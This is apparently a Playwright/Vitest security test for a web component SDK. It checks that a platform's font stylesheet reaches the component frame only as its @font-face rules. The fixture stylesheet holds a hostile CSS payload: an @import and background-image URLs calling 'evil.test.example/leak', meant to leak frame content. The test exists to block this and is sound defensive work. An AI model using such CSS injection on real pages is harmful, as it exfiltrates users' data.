import type { Browser, Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { provider, tagName } from "../../protocol/provider.ts";
import { sdkPath } from "../../protocol/version.ts";
import { launchChromium, openPage } from "./support/browser.ts";
import { startTestHosts } from "./support/hosts.ts";

// Issue 14 item 12 in Chromium: a platform's font stylesheet (`fonts: [{ cssSrc }]`) never
// becomes a stylesheet of a component frame. The data layer fetches it; the frame declares
// only the @font-face rules it rebuilds from it, so a selector rule of that stylesheet (which
// could read what the frame shows through background URLs) never takes effect.

let hosts: Awaited<ReturnType<typeof startTestHosts>>;
let browser: Browser;

beforeAll(async () => {
  hosts = await startTestHosts();
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await hosts?.close();
});

const cssSrc = "https://fonts.test.example/css2?family=Brand";
const stylesheet = `@import url("https://evil.test.example/more.css");
@font-face {
  font-family: "Brand";
  font-weight: 400;
  src: url(files/brand.woff2) format("woff2");
}
input, div, body { background-image: url("https://evil.test.example/leak"); }
@media screen { body { display: none; } }`;

interface FrameFonts {
  faces: { family: string; src: string }[];
  links: number;
  ruleTexts: string[];
}

const fontsOf = (frame: Frame) =>
  frame.evaluate((): FrameFonts => {
    const rules = document.adoptedStyleSheets.flatMap((s) => [...s.cssRules]);
    return {
      faces: rules
        .filter((r): r is CSSFontFaceRule => r instanceof CSSFontFaceRule)
        .map((r) => ({
          family: r.style.getPropertyValue("font-family"),
          src: r.style.getPropertyValue("src"),
        })),
      links: document.querySelectorAll('link[rel="stylesheet"], style').length,
      ruleTexts: rules.map((r) => r.cssText),
    };
  });

describe("a platform font stylesheet (issue 14 item 12)", () => {
  it("reaches the frame only as its @font-face rules: no link, no import, no selector, nothing fetched from the stylesheet's other URLs", async () => {
    const context = await browser.newContext();
    const evil: string[] = [];
    const stylesheetFetches: string[] = [];
    await context.route("https://evil.test.example/**", (route) => {
      evil.push(route.request().url());
      return route.abort();
    });
    await context.route("https://fonts.test.example/**", (route) => {
      const url = route.request().url();
      if (url.endsWith(".woff2")) return route.abort();
      stylesheetFetches.push(route.request().frame().url());
      return route.fulfill({
        status: 200,
        contentType: "text/css; charset=utf-8",
        headers: { "Access-Control-Allow-Origin": "*" },
        body: stylesheet,
      });
    });
    const query = new URLSearchParams({
      script: `${hosts.connect}${sdkPath}${provider.id}.js`,
      global: `${provider.name}Connect`,
      connect: hosts.connect,
      cssSrc,
      tag: tagName("payouts-list"),
    });
    const { page, problems } = await openPage(
      context,
      `${hosts.platform}/fonts-platform.html?${query}`,
    );
    // The component's frame is in the element's shadow root: find it among the page's frames.
    const frameOfComponent = () =>
      page.frames().find((f) => f.url().startsWith(`${hosts.connect}/frame.html`));
    await expect.poll(() => frameOfComponent() !== undefined, { timeout: 15_000 }).toBe(true);
    const frame = frameOfComponent()!;
    await expect
      .poll(async () => (await fontsOf(frame)).faces.map((f) => f.family), { timeout: 15_000 })
      .toContain("Brand");
    const fonts = await fontsOf(frame);
    expect(fonts.faces.find((f) => f.family === "Brand")?.src).toBe(
      'url("https://fonts.test.example/files/brand.woff2") format("woff2")',
    );
    expect(fonts.links).toBe(0);
    expect(fonts.ruleTexts.join("\n")).not.toContain("evil.test.example");
    // Fetched once, by the data layer, not by the component frame.
    expect(stylesheetFetches).toHaveLength(1);
    expect(stylesheetFetches[0]).toContain("/data-layer.html");
    expect(evil).toEqual([]);
    expect(problems).toEqual([]);
    await context.close();
  });
});
